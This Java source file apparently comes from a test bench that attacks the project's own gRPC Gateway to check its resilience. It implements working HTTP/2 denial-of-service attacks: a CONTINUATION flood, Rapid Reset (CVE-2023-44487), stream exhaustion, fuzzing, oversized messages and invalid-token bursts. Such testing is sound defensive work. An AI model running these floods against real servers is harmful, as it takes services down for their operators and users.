package com.dotscience.testing.bench.gateway;

import static com.dotscience.testing.bench.gateway.RawConnection.CONTINUATION;
import static com.dotscience.testing.bench.gateway.RawConnection.END_HEADERS;
import static com.dotscience.testing.bench.gateway.RawConnection.HEADERS;
import static com.dotscience.testing.bench.gateway.RawConnection.RST_STREAM;

import com.dotscience.api.DeployerGrpc;
import com.dotscience.api.DeploymentFilter;
import com.dotscience.api.Logs;
import com.dotscience.api.UpdateDeploymentRequest;
import io.grpc.CallOptions;
import io.grpc.Channel;
import io.grpc.ClientCall;
import io.grpc.ManagedChannel;
import io.grpc.Metadata;
import io.grpc.MethodDescriptor;
import io.grpc.Status;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** What somebody does to a Gateway who has the token of one deployer, or none, for as long as nobody interrupts it. */
public enum Attack {
    /** Frames of headers that never end. */
    CONTINUATION_FLOOD {
        @Override
        void once(Target target) throws IOException {
            try (RawConnection connection = new RawConnection(target.port())) {
                connection.frame(HEADERS, 0, 1, RawConnection.headers(call(target)));
                byte[] more = RawConnection.headers(Map.of("x", "y"));
                while (!Thread.currentThread().isInterrupted()) {
                    connection.frame(CONTINUATION, 0, 1, more);
                }
            }
        }
    },
    /** Calls that are cancelled at once (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void once(Target target) throws IOException {
            try (RawConnection connection = new RawConnection(target.port())) {
                byte[] headers = RawConnection.headers(call(target));
                for (int stream = 1; !Thread.currentThread().isInterrupted(); stream += 2) {
                    connection.frame(HEADERS, END_HEADERS, stream, headers);
                    connection.frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                }
            }
        }
    },
    /** 30,000 streams, a hundred on each connection. */
    MANY_STREAMS {
        @Override
        void once(Target target) throws InterruptedException {
            streams(target, 300, 100, 1);
        }
    },
    /** 2,000 calls for much that are not read. */
    UNREAD_STREAMS {
        @Override
        void once(Target target) throws InterruptedException {
            streams(target, 20, 100, 0);
        }
    },
    /** 3,000 messages of random bytes, and again. */
    RANDOM_MESSAGES {
        @Override
        void once(Target target) throws InterruptedException {
            Random random = new Random();
            ManagedChannel connection = target.connect();
            try {
                Channel calls = target.calls(connection);
                for (int i = 0; i < 3_000; i++) {
                    byte[] message = new byte[1 + random.nextInt(1_000)];
                    random.nextBytes(message);
                    List<MethodDescriptor<?, ?>> methods = List.of(
                            DeployerGrpc.getUpdateDeploymentMethod(),
                            DeployerGrpc.getUpdateDeployerMethod(),
                            DeployerGrpc.getListDeploymentsMethod(),
                            DeployerGrpc.getSendLogsMethod(),
                            DeployerGrpc.getStreamDeploymentsMethod());
                    await(open(calls, raw(methods.get(random.nextInt(methods.size()))), message, 1));
                }
            } finally {
                connection.shutdownNow();
            }
        }
    },
    /** Reports of 4 MB and of half a one, and log lines of that size. */
    LARGE_REPORTS {
        @Override
        void once(Target target) throws InterruptedException {
            ManagedChannel connection = target.connect();
            try {
                Channel calls = target.calls(connection);
                for (int round = 0; round < 10; round++) {
                    List<Call<?>> open = new ArrayList<>();
                    for (int i = 0; i < 50; i++) {
                        open.add(open(
                                calls,
                                DeployerGrpc.getUpdateDeploymentMethod(),
                                report(i % 2 == 0 ? 4_000_000 : 500_000),
                                1));
                        open.add(open(
                                calls,
                                DeployerGrpc.getSendLogsMethod(),
                                Logs.newBuilder().setLine("x".repeat(500_000)).build(),
                                1));
                    }
                    for (Call<?> each : open) {
                        await(each);
                    }
                }
            } finally {
                connection.shutdownNow();
            }
        }
    },
    /** Calls with tokens that nobody has. */
    WRONG_TOKENS {
        @Override
        void once(Target target) throws InterruptedException {
            Random random = new Random();
            ManagedChannel connection = target.connect();
            try {
                for (int i = 0; i < 1_000; i++) {
                    Channel calls = new Target(target.port(), "wrong-" + random.nextLong()).calls(connection);
                    open(calls, DeployerGrpc.getListDeploymentsMethod(), DeploymentFilter.getDefaultInstance(), 1);
                }
                Thread.sleep(500);
            } finally {
                connection.shutdownNow();
            }
        }
    };

    private static final int PATIENCE_MILLIS = 5_000;

    /** One round of it, which ends when it has done what it does or the Gateway has had enough. */
    abstract void once(Target target) throws IOException, InterruptedException;

    private static Map<String, String> call(Target target) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put(":method", "POST");
        fields.put(":scheme", "http");
        fields.put(":path", "/deployer_v1.Deployer/ListDeployments");
        fields.put(":authority", "127.0.0.1");
        fields.put("content-type", "application/grpc");
        fields.put("te", "trailers");
        fields.put("token", target.token());
        return fields;
    }

    private static UpdateDeploymentRequest report(int size) {
        return UpdateDeploymentRequest.newBuilder()
                .setId("nobody's")
                .setMessage("x".repeat(size))
                .build();
    }

    private static void streams(Target target, int connections, int each, int reading) throws InterruptedException {
        List<ManagedChannel> open = new ArrayList<>();
        try {
            for (int i = 0; i < connections; i++) {
                ManagedChannel connection = target.connect();
                open.add(connection);
                Channel calls = target.calls(connection);
                for (int j = 0; j < each; j++) {
                    MethodDescriptor<DeploymentFilter, ?> method = reading == 0 && j % 2 == 0
                            ? DeployerGrpc.getListDeploymentsMethod()
                            : DeployerGrpc.getStreamDeploymentsMethod();
                    open(calls, method, DeploymentFilter.getDefaultInstance(), reading);
                }
                // A connection needs a moment, also of whoever attacks.
                Thread.sleep(20);
            }
            Thread.sleep(PATIENCE_MILLIS);
        } finally {
            open.forEach(ManagedChannel::shutdownNow);
        }
    }

    private static <T> MethodDescriptor<byte[], T> raw(MethodDescriptor<?, T> method) {
        return method.toBuilder(
                        new MethodDescriptor.Marshaller<byte[]>() {
                            @Override
                            public InputStream stream(byte[] value) {
                                return new ByteArrayInputStream(value);
                            }

                            @Override
                            public byte[] parse(InputStream stream) {
                                throw new IllegalStateException();
                            }
                        },
                        method.getResponseMarshaller())
                .build();
    }

    private static <A, B> Call<B> open(Channel channel, MethodDescriptor<A, B> method, A message, int reading) {
        ClientCall<A, B> call = channel.newCall(method, CallOptions.DEFAULT);
        Call<B> listener = new Call<>();
        call.start(listener, new Metadata());
        call.request(reading);
        call.sendMessage(message);
        call.halfClose();
        return listener;
    }

    private static void await(Call<?> call) throws InterruptedException {
        synchronized (call) {
            if (!call.over) {
                call.wait(200);
            }
        }
    }

    private static final class Call<T> extends ClientCall.Listener<T> {
        private boolean over;

        @Override
        public synchronized void onClose(Status status, Metadata trailers) {
            over = true;
            notifyAll();
        }
    }

    /** Goes on with it, with so many at once, until it is closed. */
    public Running start(Target target, int attackers) {
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < attackers; i++) {
            Thread thread = new Thread(() -> goOn(target), "attacker");
            thread.setDaemon(true);
            thread.start();
            threads.add(thread);
        }
        return new Running(threads);
    }

    private void goOn(Target target) {
        try {
            while (!Thread.currentThread().isInterrupted()) {
                try {
                    once(target);
                } catch (IOException e) {
                    // The Gateway has had enough of this connection. The next one.
                    Thread.sleep(1);
                }
            }
        } catch (InterruptedException e) {
            // That is how it ends.
        }
    }

    /** An attack that goes on. */
    public record Running(List<Thread> threads) implements AutoCloseable {
        @Override
        public void close() throws InterruptedException {
            threads.forEach(Thread::interrupt);
            for (Thread thread : threads) {
                thread.join(PATIENCE_MILLIS);
            }
        }
    }
}
